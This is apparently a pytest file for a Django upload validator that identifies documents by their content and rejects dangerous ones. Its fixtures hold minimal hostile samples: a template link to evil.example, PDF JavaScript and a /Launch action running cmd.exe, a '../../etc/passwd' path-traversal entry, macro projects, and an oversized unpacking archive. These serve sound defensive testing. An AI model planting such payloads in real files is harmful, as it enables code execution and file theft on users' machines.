"""A document is what its content says, and what could act is refused."""

import io
import zipfile
from contextlib import suppress

import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from hypothesis import given, settings
from hypothesis import strategies as st

from records.files.documents import checked
from tests import files

ODP = "application/vnd.oasis.opendocument.presentation"
WORD = "wordprocessingml.document.main+xml"


def file(content, name="talk.pdf"):
    return ContentFile(content, name=name)


def name_of(value):
    """Name a test by its words: files made for it are others in each process."""
    return value if isinstance(value, str) else "file"


@pytest.mark.parametrize(
    ("content", "name", "suffix"),
    [
        (files.pdf(), "any.exe", ".pdf"),
        (files.slides(), "slides.pdf", ".pptx"),
        (files.slides(WORD), "x", ".docx"),
        (files.slides("spreadsheetml.sheet.main+xml"), "x", ".xlsx"),
        (files.archive({"mimetype": ODP, "content.xml": "<x/>"}), "x", ".odp"),
        (files.FILM, "x.mp4", ".mp4"),
        (b"ID3\x04\x00" + bytes(99), "x.mp3", ".mp3"),
        (files.picture("JPEG"), "x.jpg", ".jpg"),
        (files.picture("PNG"), "x.png", ".jpg"),
        (b"WEBVTT\n\n00:01.000 --> 00:02.000\nHello", "x.vtt", ".vtt"),
        ("纪要".encode(), "x.txt", ".txt"),
    ],
    ids=name_of,
)
def test_what_a_document_is_its_content_says(content, name, suffix):
    assert checked(file(content, name)) == suffix


def zeros(name="ppt/media/zeros.bin"):
    return files.slides(**{name: bytes(3 * 2**20)})


FAR = (
    '<Relationships><Relationship Id="rId1" Type="http://x/attachedTemplate" '
    'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
REFUSED = {
    "a program": [files.EXE, b"\x7fELF\x02\x01\x01" + bytes(99)],
    "not of a kind": [
        b"",
        files.HTML,
        files.SVG,
        files.HEIC,
        b" " + files.pdf(),
        files.archive({"a.txt": "a"}),
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
        files.picture("GIF", "P") + files.HTML,
    ],
    "macros or programs": [
        files.slides(**{"ppt/vbaProject.bin": b"x"}),
        files.slides(**{"ppt/embeddings/setup.exe": b"x"}),
        files.slides("presentation.macroEnabled.main+xml"),
        files.slides("presentation.&#109;acroEnabled.main+xml"),
        files.slides(WORD, **{"word/_rels/settings.xml.rels": FAR.replace('"', "'")}),
        files.slides(WORD, **{"word/_rels/settings.xml.rels": FAR}),
        files.archive({"mimetype": ODP, "Basic/Standard/Module1.xml": "Sub"}),
    ],
    "too large when it is unpacked": [zeros()],
    "lead elsewhere": [files.slides(**{"../../etc/passwd": b"x"})],
    "damaged": [files.slides()[:-30], b"PK\x03\x04" + bytes(99)],
    "PDF cannot be read": [b"%PDF-1.7 nonsense"],
    "PDF holds a program": [
        files.pdf(catalogue=b"/OpenAction " + SCRIPT),
        files.pdf(catalogue=b"/AA << /WC 5 0 R >>", more=[SCRIPT]),
        files.pdf(more=[b"<< /S /Launch /F (cmd.exe) >>"]),
        files.pdf(catalogue=b"/AcroForm << /XFA 5 0 R >>", more=[b"<< >>"]),
    ],
}


@pytest.mark.parametrize(
    ("words", "content"),
    [(words, one) for words, all_of_it in REFUSED.items() for one in all_of_it],
    ids=name_of,
)
def test_a_document_that_could_do_harm_is_refused_in_words(words, content):
    with pytest.raises(ValidationError, match=words):
        checked(file(content))


def test_a_page_is_no_plain_text_whatever_its_name():
    with pytest.raises(ValidationError, match="not of a kind"):
        checked(file(files.HTML, "notes.txt"))


def test_an_archive_locked_with_a_password_is_refused():
    content = bytearray(files.slides())
    with zipfile.ZipFile(io.BytesIO(bytes(content))) as archive:
        for part in archive.infolist():
            content[part.header_offset + 6] |= 1  # "encrypted", in its own head
    start = 0
    while (start := content.find(b"PK\x01\x02", start)) >= 0:
        content[start + 8] |= 1  # and in the list at the end
        start += 4
    with pytest.raises(ValidationError, match="locked"):
        checked(file(bytes(content)))


@settings(max_examples=25, deadline=None)
@given(st.data())
def test_a_damaged_archive_is_known_or_refused_but_never_fails(data):
    whole = bytearray(files.slides(**{"ppt/slides/slide1.xml": "<t>x</t>" * 9}))
    for _time in range(3):
        place = data.draw(st.integers(4, len(whole) - 1))
        whole[place] = data.draw(st.integers(0, 255))
    with suppress(ValidationError):
        checked(file(bytes(whole)))
